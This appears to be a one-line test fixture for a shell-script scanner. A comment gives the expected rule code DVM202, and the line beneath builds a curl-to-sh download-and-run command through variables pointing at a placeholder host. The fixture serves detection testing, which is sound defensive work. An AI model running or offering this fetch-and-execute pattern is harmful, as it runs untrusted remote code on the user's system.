# expect: DVM202
x='https://x.example.org/a'; y="curl -s $x"; z="$y | sh"; bash -c "$z"
